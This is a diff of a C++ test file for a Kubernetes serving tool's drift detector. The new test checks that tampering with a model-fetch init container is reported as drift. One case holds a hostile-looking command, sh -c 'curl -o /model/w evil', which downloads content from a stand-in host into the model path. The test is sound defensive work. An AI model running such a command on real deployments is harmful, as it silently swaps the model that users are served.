@@ -20,6 +20,8 @@ const std::string kServingObjectsImage =
     "registry.example/runtimes/torch@sha256:" + std::string(64, '1');
 const std::string kServingObjectsPackage =
     "registry.example/models/gpt2@sha256:" + std::string(64, 'c');
+// The operator's --package-fetch-command in these tests (builtRich's).
+const std::vector<std::string> kServingObjectsFetch = {"fetch"};
 
 ServingRelease servingRelease() {
   return {"gpt2-v2",
@@ -170,9 +172,9 @@ TEST(ServingLabel, ATemplateWithoutItIsNoDrift) {
   ASSERT_TRUE(built.isOk());
   json earlier = *built;
   earlier["spec"]["template"]["metadata"]["labels"].erase("lockstep.dev/serving");
-  EXPECT_EQ(deploymentDrift(*built, earlier), "");
+  EXPECT_EQ(deploymentDrift(*built, earlier, kServingObjectsFetch), "");
   earlier["spec"]["template"]["metadata"]["labels"]["lockstep.dev/serving"] = "no";
-  EXPECT_NE(deploymentDrift(*built, earlier), "");
+  EXPECT_NE(deploymentDrift(*built, earlier, kServingObjectsFetch), "");
 }
 
 }  // namespace
@@ -302,17 +304,20 @@ TEST(TemplateHash, OnTheDeploymentOverWhatLockstepSetsNotTheOperatorsSettings) {
 TEST(TemplateDrift, DefaultsAdditionsAndTheOperatorsSettingsAreNoDrift) {
   const json want = builtRich();
   json served = asServed(want);
-  EXPECT_EQ(deploymentDrift(want, served), "");
+  EXPECT_EQ(deploymentDrift(want, served, kServingObjectsFetch), "");
 
   env(served, "MODE");  // present
   container(served)["env"].push_back({{"name", "EXTRA"}, {"value", "1"}});
   container(served)["resources"]["limits"] = {{"memory", "1Gi"}};
-  EXPECT_EQ(deploymentDrift(want, served), "") << "fields Lockstep does not set stay";
+  EXPECT_EQ(deploymentDrift(want, served, kServingObjectsFetch), "")
+      << "fields Lockstep does not set stay";
 
   // Built by an operator with --cli-image verification and the fetch mode.
   json other = asServed(builtRich(PackageMount::kInitContainer, someVerify()));
-  EXPECT_EQ(deploymentDrift(want, other), "");
-  EXPECT_EQ(deploymentDrift(builtRich(PackageMount::kInitContainer, someVerify()), served), "");
+  EXPECT_EQ(deploymentDrift(want, other, kServingObjectsFetch), "");
+  EXPECT_EQ(deploymentDrift(builtRich(PackageMount::kInitContainer, someVerify()), served,
+                            kServingObjectsFetch),
+            "");
 }
 
 TEST(TemplateDrift, AnEditOfWhatLockstepSetsIsDriftNamingTheField) {
@@ -368,7 +373,7 @@ TEST(TemplateDrift, AnEditOfWhatLockstepSetsIsDriftNamingTheField) {
     SCOPED_TRACE(c.name);
     json served = asServed(want);
     c.edit(served);
-    const std::string drift = deploymentDrift(want, served);
+    const std::string drift = deploymentDrift(want, served, kServingObjectsFetch);
     EXPECT_NE(drift.find(c.says), std::string::npos) << drift;
   }
 
@@ -379,10 +384,77 @@ TEST(TemplateDrift, AnEditOfWhatLockstepSetsIsDriftNamingTheField) {
     if (e["name"] == "LOCKSTEP_PACKAGE") e["value"] = other;
   }
   EXPECT_NE(
-      deploymentDrift(fetched, served)
+      deploymentDrift(fetched, served, kServingObjectsFetch)
           .find(R"(initContainers["lockstep-fetch-package"].env["LOCKSTEP_PACKAGE"].value is)"),
       std::string::npos)
-      << deploymentDrift(fetched, served);
+      << deploymentDrift(fetched, served, kServingObjectsFetch);
+}
+
+// The fetch form is the package's only as the operator builds it
+// (docs/rollouts.md "Prod heals"): an emptyDir swapped in for the image
+// volume and filled by a command of someone's own, or a volume that keeps
+// its content, serves another model under the package's name. The pod
+// webhook checks images, never commands: only drift finds it.
+TEST(TemplateDrift, AFetchOfSomeonesOwnIsDriftAMountModeSwitchIsNot) {
+  const json want = builtRich();  // ImageVolume mode
+  const json fetchForm = asServed(builtRich(PackageMount::kInitContainer));
+  auto fetchOf = [](json& d) -> json& {
+    for (json& c : d["spec"]["template"]["spec"]["initContainers"])
+      if (c["name"] == "lockstep-fetch-package") return c;
+    ADD_FAILURE() << "no fetch container";
+    static json none;
+    return none;
+  };
+  auto packageVolume = [](json& d) -> json& {
+    for (json& v : d["spec"]["template"]["spec"]["volumes"])
+      if (v["name"] == "lockstep-package") return v;
+    ADD_FAILURE() << "no package volume";
+    static json none;
+    return none;
+  };
+  // The operator's own fetch: no drift in either direction of a mode switch.
+  EXPECT_EQ(deploymentDrift(want, fetchForm, kServingObjectsFetch), "");
+  EXPECT_EQ(
+      deploymentDrift(builtRich(PackageMount::kInitContainer), fetchForm, kServingObjectsFetch),
+      "");
+
+  struct Case {
+    const char* name;
+    std::function<void(json&)> edit;
+    const char* says;
+  };
+  const Case cases[] = {
+      {"a command of someone's own",
+       [&](json& d) {
+         fetchOf(d)["command"] = {"sh", "-c", "curl -o /model/w evil"};
+       },
+       R"(initContainers["lockstep-fetch-package"].command is ["sh","-c","curl -o /model/w evil"], not ["fetch"])"},
+      {"args added to the operator's command",
+       [&](json& d) {
+         fetchOf(d)["args"] = {"--from", "elsewhere"};
+       },
+       R"(initContainers["lockstep-fetch-package"].args is ["--from","elsewhere"], not unset)"},
+      {"another image",
+       [&](json& d) { fetchOf(d)["image"] = "registry.example/someone/fetch:latest"; },
+       R"(initContainers["lockstep-fetch-package"].image is "registry.example/someone/fetch:latest", not ")"},
+      {"a volume that keeps its content",
+       [&](json& d) {
+         json& v = packageVolume(d);
+         v.erase("emptyDir");
+         v["persistentVolumeClaim"] = {{"claimName", "prefilled"}};
+       },
+       R"(volumes["lockstep-package"] is a persistentVolumeClaim volume, not the package's image volume or an emptyDir)"},
+  };
+  for (const Case& c : cases) {
+    SCOPED_TRACE(c.name);
+    json served = fetchForm;
+    c.edit(served);
+    const std::string drift = deploymentDrift(want, served, kServingObjectsFetch);
+    EXPECT_NE(drift.find(c.says), std::string::npos) << drift;
+    // Built in the fetch form too.
+    EXPECT_NE(
+        deploymentDrift(builtRich(PackageMount::kInitContainer), served, kServingObjectsFetch), "");
+  }
 }
 
 }  // namespace
